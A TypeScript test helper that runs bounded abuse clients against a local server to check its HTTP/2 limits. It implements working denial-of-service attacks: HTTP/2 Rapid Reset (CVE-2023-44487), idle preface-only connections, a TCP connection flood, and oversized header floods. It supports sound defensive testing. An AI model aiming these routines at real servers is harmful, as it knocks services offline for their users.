import * as http2 from "node:http2";
import * as net from "node:net";
import { setTimeout as sleep, setImmediate as yieldToLoop } from "node:timers/promises";
import { isMainThread, parentPort, Worker, workerData } from "node:worker_threads";
import { headerBlock, headersFrame, RawH2Connection, rstStreamFrame } from "./h2-frames.js";

/**
 * Abusive clients for the abuse-limit tests, each bounded in time and aimed
 * at 127.0.0.1 only. They run in a worker thread, so the attack's own work
 * does not slow down the test's normal client, whose latency is measured.
 */

export type Attack =
  /** Opens streams and resets them at once (CVE-2023-44487), reconnecting whenever the server closes the connection. */
  | {
      readonly kind: "rapid-reset";
      readonly port: number;
      readonly connections: number;
      /** Streams opened and reset per second, all connections together; undefined: as fast as possible. */
      readonly streamsPerSecond?: number;
      readonly durationMs: number;
      readonly localAddress: string;
    }
  /** Opens connections that send the HTTP/2 preface and SETTINGS, then nothing. */
  | { readonly kind: "silent-h2"; readonly port: number; readonly count: number; readonly waitMs: number; readonly localAddress: string }
  /** Opens TCP connections and holds them, counting how many the server closes at once. */
  | {
      readonly kind: "connection-flood";
      readonly port: number;
      readonly count: number;
      readonly holdMs: number;
      readonly localAddress: string;
    }
  /** Sends HTTP/2 requests with oversized header lists, as fast as answers come back. */
  | {
      readonly kind: "big-headers";
      readonly port: number;
      readonly headerBytes: number;
      readonly durationMs: number;
      readonly concurrency: number;
      readonly localAddress: string;
    };

export interface AttackReport {
  /** Connections the attacker opened. */
  readonly connections: number;
  /** Streams or requests it sent. */
  readonly requests: number;
  /** How many connections the server closed, and how many stayed open until the attacker stopped. */
  readonly closedByServer: number;
  readonly stillOpen: number;
  /** The error code of the first GOAWAY each connection received ("none" if it got none), with how often each came. */
  readonly goawayCodes: Record<string, number>;
  /** Time from opening to the server's close, per closed connection (ms). */
  readonly closedAfterMs: number[];
  /** Answers by :status (big-headers), or reset codes as "rst <code>". */
  readonly outcomes: Record<string, number>;
}

/** Runs `attack` in a worker thread and resolves with its report. */
export function runAttack(attack: Attack): Promise<AttackReport> {
  const worker = new Worker(new URL(import.meta.url), { workerData: attack });
  return new Promise((resolve, reject) => {
    worker.once("message", (report: AttackReport) => resolve(report));
    worker.once("error", reject);
    worker.once("exit", (code) => reject(new Error(`the attacker thread exited (${code}) without a report`)));
  });
}

class Tally {
  connections = 0;
  requests = 0;
  closedByServer = 0;
  stillOpen = 0;
  readonly goawayCodes: Record<string, number> = {};
  readonly closedAfterMs: number[] = [];
  readonly outcomes: Record<string, number> = {};

  count(record: Record<string, number>, key: string | number): void {
    record[String(key)] = (record[String(key)] ?? 0) + 1;
  }

  report(): AttackReport {
    return { ...this };
  }
}

const target = "/greeter.v1.GreeterService/SayHello";

async function rapidReset(attack: Extract<Attack, { kind: "rapid-reset" }>): Promise<AttackReport> {
  const tally = new Tally();
  const block = headerBlock([
    [":path", target],
    [":authority", "127.0.0.1"],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
  ]);
  const deadline = performance.now() + attack.durationMs;
  const attacker = async () => {
    while (performance.now() < deadline) {
      const opened = performance.now();
      const connection = await RawH2Connection.open(attack.port, { localAddress: attack.localAddress });
      tally.connections++;
      let streamId = 1;
      const batchSize = 50;
      const batchIntervalMs =
        attack.streamsPerSecond === undefined ? 0 : (1_000 * batchSize * attack.connections) / attack.streamsPerSecond;
      while (!connection.isClosed && performance.now() < deadline && streamId < 2 ** 31 - 200) {
        const started = performance.now();
        const batch: Buffer[] = [];
        for (let i = 0; i < batchSize; i++, streamId += 2) batch.push(headersFrame(streamId, block, false), rstStreamFrame(streamId));
        tally.requests += batchSize;
        await connection.write(Buffer.concat(batch));
        const rest = batchIntervalMs - (performance.now() - started);
        if (rest > 0) await sleep(rest);
        else await yieldToLoop();
      }
      // The server may be closing it this very moment: give it a second.
      if (!connection.isClosed) await Promise.race([connection.closed, sleep(1_000)]);
      if (connection.isClosed) {
        await connection.closed;
        tally.closedByServer++;
        tally.closedAfterMs.push(performance.now() - opened);
      } else {
        tally.stillOpen++;
      }
      tally.count(tally.goawayCodes, connection.goawayCodes()[0] ?? "none");
      connection.destroy();
    }
  };
  await Promise.all(Array.from({ length: attack.connections }, attacker));
  return tally.report();
}

async function silentH2(attack: Extract<Attack, { kind: "silent-h2" }>): Promise<AttackReport> {
  const tally = new Tally();
  const opened = performance.now();
  const connections = await Promise.all(
    Array.from({ length: attack.count }, () => RawH2Connection.open(attack.port, { localAddress: attack.localAddress })),
  );
  tally.connections = connections.length;
  const closedAt = connections.map((connection) => connection.closed.then(() => performance.now() - opened));
  const waited = await Promise.race([Promise.all(closedAt), sleep(attack.waitMs, undefined)]);
  for (const connection of connections) {
    if (connection.isClosed) tally.closedByServer++;
    else tally.stillOpen++;
    tally.count(tally.goawayCodes, connection.goawayCodes()[0] ?? "none");
    connection.destroy();
  }
  if (waited !== undefined) tally.closedAfterMs.push(...waited);
  return tally.report();
}

async function connectionFlood(attack: Extract<Attack, { kind: "connection-flood" }>): Promise<AttackReport> {
  const tally = new Tally();
  const sockets = await Promise.all(
    Array.from(
      { length: attack.count },
      () =>
        new Promise<net.Socket>((resolve) => {
          const socket = net.connect({ port: attack.port, host: "127.0.0.1", localAddress: attack.localAddress });
          socket.on("error", () => {});
          const opened = performance.now();
          socket.once("close", () => tally.closedAfterMs.push(performance.now() - opened));
          socket.once("connect", () => resolve(socket));
          socket.once("close", () => resolve(socket));
        }),
    ),
  );
  tally.connections = sockets.length;
  await sleep(attack.holdMs);
  for (const socket of sockets) {
    if (socket.destroyed || socket.readableEnded) tally.closedByServer++;
    else tally.stillOpen++;
    socket.destroy();
  }
  return tally.report();
}

async function bigHeaders(attack: Extract<Attack, { kind: "big-headers" }>): Promise<AttackReport> {
  const tally = new Tally();
  const deadline = performance.now() + attack.durationMs;
  const session = http2.connect(`http://127.0.0.1:${attack.port}`, {
    createConnection: () => net.connect({ port: attack.port, host: "127.0.0.1", localAddress: attack.localAddress }),
    // Send what the server announced it would not take, as an attacker would.
    maxSendHeaderBlockLength: 1024 * 1024,
  });
  session.on("error", () => {});
  tally.connections = 1;
  const padding = "a".repeat(attack.headerBytes);
  const one = () =>
    new Promise<void>((resolve) => {
      const stream = session.request({ ":method": "POST", ":path": target, "content-type": "application/json", "x-padding": padding });
      stream.on("response", (headers) => tally.count(tally.outcomes, String(headers[":status"])));
      stream.on("error", () => {});
      stream.on("close", () => {
        if (stream.rstCode !== http2.constants.NGHTTP2_NO_ERROR) tally.count(tally.outcomes, `rst ${stream.rstCode}`);
        resolve();
      });
      stream.resume();
      stream.end('{"name":"Ada"}');
      tally.requests++;
    });
  const loop = async () => {
    while (performance.now() < deadline && !session.destroyed) await one();
  };
  await Promise.all(Array.from({ length: attack.concurrency }, loop));
  if (session.destroyed) tally.closedByServer++;
  else tally.stillOpen++;
  session.destroy();
  return tally.report();
}

async function run(attack: Attack): Promise<AttackReport> {
  switch (attack.kind) {
    case "rapid-reset":
      return rapidReset(attack);
    case "silent-h2":
      return silentH2(attack);
    case "connection-flood":
      return connectionFlood(attack);
    case "big-headers":
      return bigHeaders(attack);
  }
}

if (!isMainThread && parentPort !== null) {
  const port = parentPort;
  void run(workerData as Attack).then((report) => {
    port.postMessage(report);
    // Sockets the attack left behind must not keep the thread alive.
    process.exit(0);
  });
}
